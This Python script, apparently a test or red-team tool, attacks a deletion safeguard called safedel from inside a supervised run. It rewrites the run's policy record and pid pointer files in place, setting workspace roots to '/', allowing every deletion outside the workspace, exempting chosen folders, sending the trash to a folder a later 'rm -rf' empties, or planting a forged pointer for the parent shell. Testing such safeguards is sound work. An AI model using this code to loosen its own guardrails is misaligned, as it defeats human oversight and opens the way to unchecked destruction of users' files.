"""What a command inside a run does to widen its own policy through the run's files: run
as `python3 recordattack.py MODE [DIR]` from the command. It rewrites, in place, the
run's record (runs/<id>/run.json) and every pointer to its run (by-pid/<pid>-<start> in
each pointer place), or plants a pointer of its own (MODE plant) for its parent shell,
the first process a deleter started by that shell looks up. Standard library only: the
command brings its own tools.

MODE widen  : workspace roots "/", every deletion outside them allowed
MODE exempt : DIR an exempt root (its identity included), the workspace elsewhere
MODE trash  : the trash moved to DIR (an exempt folder a later `rm -rf` empties)
MODE plant  : widen, in a pointer of its own, for a run id it made up
"""

import glob
import json
import os
import pwd
import sys


def widened(record, mode, folder):
    if mode in ("widen", "plant"):
        record.update(workspaceRoots=["/"], outsideWorkspace="allow", threshold=99999)
    elif mode == "exempt":
        found = os.stat(folder)
        record.update(workspaceRoots=["/nonexistent-workspace"], exempt=[folder])
        record["exemptIds"] = {folder: f"{found.st_dev}:{found.st_ino}"}
    elif mode == "trash":
        record.update(trashDir=folder, homeTrash=folder)
    return record


def rewrite(path, mode, folder):
    with open(path) as handle:
        record = json.load(handle)
    fd = os.open(path, os.O_WRONLY | os.O_TRUNC | os.O_NOFOLLOW)
    with os.fdopen(fd, "w") as handle:
        handle.write(json.dumps(widened(record, mode, folder), separators=(",", ":")))
    print(f"rewrote {path}", file=sys.stderr)


def pointer_dirs():
    uid = os.getuid()
    for pattern in (f"/run/user/{uid}/safedel/by-pid", f"/tmp/safedel-{uid}/by-pid"):
        yield from glob.glob(pattern)
    yield os.path.join(pwd.getpwuid(uid).pw_dir, ".local/state/safedel/by-pid")


def main(mode, folder=None):
    run_id = os.environ["SAFEDEL_RUN_ID"]
    ours = []
    for directory in pointer_dirs():
        for path in glob.glob(os.path.join(directory, "*")):
            try:
                with open(path) as handle:
                    if json.load(handle).get("run") == run_id:
                        ours.append(path)
            except (OSError, ValueError):
                pass
    if mode == "plant":
        with open(f"/proc/{os.getppid()}/stat") as handle:
            start = handle.read().rsplit(")", 1)[1].split()[19]
        template = ours[0]
        with open(template) as handle:
            record = widened(json.load(handle), mode, folder)
        record["run"] = "r-" + "f" * 12
        planted = os.path.join(os.path.dirname(template), f"{os.getppid()}-{start}")
        with open(planted, "w") as handle:
            handle.write(json.dumps(record))
        print(f"planted {planted}", file=sys.stderr)
        return
    record = os.path.join(os.environ["SAFEDEL_STATE_DIR"], "runs", run_id, "run.json")
    for path in [record, *ours]:
        rewrite(path, mode, folder)


if __name__ == "__main__":
    main(*sys.argv[1:])
